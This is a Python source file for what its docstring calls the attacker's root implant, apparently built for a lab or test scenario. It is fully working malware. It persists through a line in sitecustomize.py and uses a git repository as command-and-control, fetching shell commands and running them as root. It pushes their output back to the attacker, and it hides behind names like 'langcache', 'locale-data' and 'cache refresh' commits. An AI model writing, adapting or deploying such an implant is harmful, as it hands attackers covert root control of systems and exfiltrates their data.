"""langcache: the attacker's root implant (started by the line appended to
/etc/python3.11/sitecustomize.py when a root python3 starts). C2 over the
git protocol: it clones the attacker's repository (git://127.0.0.1:9418,
branch results), fetches branch main every 3 s, runs every new tasks/NNN
with /bin/sh -c, commits the output as out/NNN and pushes it to results.
Stops at a task 'exit' or after 15 minutes."""
import os
import subprocess
import sys
import time

R = "/var/lib/python3-langcache/cache"
REMOTE = "git://127.0.0.1:9418/locale-data.git"
PIDF = "/run/.langcache.pid"
ENV = dict(os.environ, HOME="/root", GIT_TERMINAL_PROMPT="0", LANGCACHE="1",
           PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin")


def g(*a):
    return subprocess.run(["/usr/bin/git", "-C", R] + list(a), env=ENV, capture_output=True)


def main():
    with open(PIDF, "w") as f:
        f.write(str(os.getpid()))
    os.chdir("/")
    if not os.path.isdir(R + "/.git"):
        subprocess.run(["/usr/bin/git", "clone", "-q", "-b", "results", REMOTE, R], env=ENV, capture_output=True)
    os.makedirs(R + "/out", exist_ok=True)
    done = set(os.listdir(R + "/out"))
    end = time.time() + 900
    stop = False
    while time.time() < end and not stop:
        g("fetch", "-q", "origin", "main")
        names = g("ls-tree", "--name-only", "FETCH_HEAD", "tasks/").stdout.decode().split()
        new = False
        for n in sorted(names):
            b = os.path.basename(n)
            if b in done:
                continue
            cmd = g("show", "FETCH_HEAD:" + n).stdout.decode()
            done.add(b)
            if cmd.strip() == "exit":
                stop = True
                break
            p = subprocess.run(["/bin/sh", "-c", cmd], env=ENV, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            with open(R + "/out/" + b, "wb") as f:
                f.write(p.stdout)
            new = True
        if new:
            g("add", "-A", "out")
            g("-c", "user.name=langcache", "-c", "user.email=root@localhost", "commit", "-qm", "cache refresh")
            g("push", "-q", "origin", "HEAD:results")
        if not stop:
            time.sleep(3)
    try:
        os.unlink(PIDF)
    except OSError:
        pass


if __name__ == "__main__":
    sys.exit(main())
